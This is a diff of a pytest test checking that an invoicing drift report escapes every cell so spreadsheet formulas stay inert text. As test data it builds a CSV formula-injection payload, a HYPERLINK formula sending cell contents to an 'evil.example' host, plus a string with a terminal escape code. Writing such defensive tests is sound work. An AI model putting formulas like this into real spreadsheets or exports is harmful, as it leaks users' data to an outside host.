@@ -8,7 +8,7 @@ import sys
 import pytest
 
 from invoicing.domain.model import markdown
-from invoicing.ledger.models import DriftRow
+from invoicing.ledger.drift import Difference
 from tasks.full_sync.drift_report import COLUMNS, listed
 from tests.conftest import ROOT
 
@@ -21,11 +21,10 @@ FORGED = "Acme\nFailed: INV-1 was refunded\x1b[2K\u2028x"
 def test_no_cell_of_a_drift_report_is_a_formula(start: str) -> None:
     """Whatever the systems say stands there as a text."""
     formula = f'{start}HYPERLINK("https://evil.example?"&A1)'
-    said = {"name": formula, "stripe_says": formula, "salesforce_says": formula}
-    found = {"run_id": "r", "subject": "in_1", "kind": "status", "outcome": formula}
-    row = DriftRow.model_validate(found | said)
+    row = Difference("in_1", "status", formula, None, "", formula, formula, False, formula)
     cells = dict(zip(COLUMNS, listed(row), strict=True))
-    assert [cells[name] for name in (*said, "outcome")] == ["'" + formula] * 4
+    said = ("name", "stripe_says", "salesforce_says", "outcome")
+    assert [cells[name] for name in said] == ["'" + formula] * 4
     assert cells["kind"] == "status"
 
 
